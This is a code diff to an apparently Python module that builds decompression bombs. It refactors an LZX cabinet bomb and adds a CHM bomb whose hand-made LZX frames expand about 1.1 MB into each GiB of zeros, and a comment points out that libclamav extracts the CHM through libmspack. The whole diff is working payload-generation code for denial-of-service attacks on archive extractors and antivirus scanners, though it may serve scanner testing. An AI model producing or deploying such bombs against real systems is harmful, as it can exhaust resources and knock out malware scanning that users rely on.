@@ -529,11 +529,11 @@ def _lzx_lens(lens, prev):
     return bits
 
 
-def lzx_cab_bomb(size):
-    """A cabinet of one LZX file (window 32 KiB) of size zero bytes (32 KiB steps, at most 2 GiB):
-    hand-made verbatim blocks whose only symbols are the literal 0 and a match at the last offset,
-    2 bits per 257 bytes (34 bytes a frame): about 1.1 MB per GiB."""
-    frames = -(-size // 32768)
+def _lzx_frames(frames, reset=False):
+    """The LZX frames (window 32 KiB) of frames x 32 KiB zero bytes, each aligned as LZX ends a
+    frame: hand-made verbatim blocks of 511 frames whose only symbols are the literal 0 and a
+    match at the last offset, 2 bits per 257 bytes (34 bytes a frame). reset: the decoder resets
+    at every block (CHM's reset interval), so each block is coded as the first."""
     offsets = 30 << 3                                  # position slots of a 2^15 window, x 8
     main = [0] * (256 + offsets)
     main[0] = main[256 + 7] = 1                        # the literal 0; slot 0 (R0), length from the tree
@@ -552,15 +552,63 @@ def lzx_cab_bomb(size):
     blocks = []
     plain = pack(body)
     for f in range(frames):
-        bits = "0" if f == 0 else ""                   # no E8 translation
+        first = f == 0 or (reset and f % per_block == 0)
+        bits = "0" if first else ""                    # no E8 translation
         if f % per_block == 0:
+            if reset:
+                prev_main, prev_len = [0] * len(main), [0] * len(length)
             n = min(per_block, frames - f) * 32768
             bits += "001" + f"{n:024b}"                # a verbatim block
             bits += _lzx_lens(main[:256], prev_main[:256]) + _lzx_lens(main[256:], prev_main[256:])
             bits += _lzx_lens(length, prev_len)
             prev_main, prev_len = main, length
-            bits += (mcode[0] + match[257] * 127 + match[128]) if f == 0 else body
+            bits += (mcode[0] + match[257] * 127 + match[128]) if first else body
             blocks.append(pack(bits))
         else:
             blocks.append(plain)
-    return _cab(blocks, 0x0003 | (15 << 8), frames * 32768)
+    return blocks
+
+
+def lzx_cab_bomb(size):
+    """A cabinet of one LZX file (window 32 KiB) of size zero bytes (32 KiB steps, at most 2 GiB),
+    one CFDATA block a frame: about 1.4 MB per GiB."""
+    frames = -(-size // 32768)
+    return _cab(_lzx_frames(frames), 0x0003 | (15 << 8), frames * 32768)
+
+
+def _encint(n):
+    out = [n & 0x7F]
+    while n > 0x7F:
+        n >>= 7
+        out.append(0x80 | (n & 0x7F))
+    return bytes(reversed(out))
+
+
+def chm_bomb(size):
+    """A CHM (ITSF 3, one PMGL chunk) of one file of size zero bytes (32 KiB steps) in its LZX
+    section (the frames of lzx_cab_bomb, the decoder reset every 511 frames): about 1.1 MB per GiB.
+    libclamav extracts it through libmspack's callbacks, as CAB's."""
+    import struct
+    frames = -(-size // 32768)
+    size = frames * 32768
+    content = b"".join(_lzx_frames(frames, reset=True))
+    control = struct.pack("<I4sIIIII", 6, b"LZXC", 2, 511, 1, 1, 0)      # interval, window: frames
+    span = struct.pack("<Q", size)
+    ms = "::DataSpace/Storage/MSCompressed/"
+    entries = [("/zeros", 1, 0, size), (ms + "Content", 0, 36, len(content)),
+               (ms + "ControlData", 0, 0, len(control)), (ms + "SpanInfo", 0, 28, len(span))]
+    body = b"".join(_encint(len(n)) + n.encode() + _encint(s) + _encint(o) + _encint(n_)
+                    for n, s, o, n_ in entries)
+    chunk = b"PMGL" + struct.pack("<IIii", 2, 0, -1, -1) + body
+    chunk += bytes(4096 - 2 - len(chunk)) + struct.pack("<H", len(entries))
+    guid = bytes.fromhex("6a92025d2e21d011 9df900a0c922e6ec".replace(" ", ""))
+    itsp = (b"ITSP" + struct.pack("<IIIIIIiIIiII", 1, 0x54, 10, 4096, 2, 1, -1, 0, 0, -1, 1, 0x409) +
+            guid + struct.pack("<Iiii", 0x54, -1, -1, -1))
+    assert len(itsp) == 0x54
+    cs0 = 0x60 + 0x18 + 0x54 + 4096
+    total = cs0 + 36 + len(content)
+    hs0 = struct.pack("<IIQII", 0x1FE, 0, total, 0, 0)
+    guids = bytes.fromhex("10fd017caa7bd0119e0c00a0c922e6ec11fd017caa7bd0119e0c00a0c922e6ec")
+    itsf = (b"ITSF" + struct.pack("<IIIII", 3, 0x60, 1, 0, 0x409) + guids +
+            struct.pack("<QQQQQ", 0x60, 0x18, 0x78, 0x54, cs0))
+    return itsf + hs0 + itsp + chunk + control + span + content
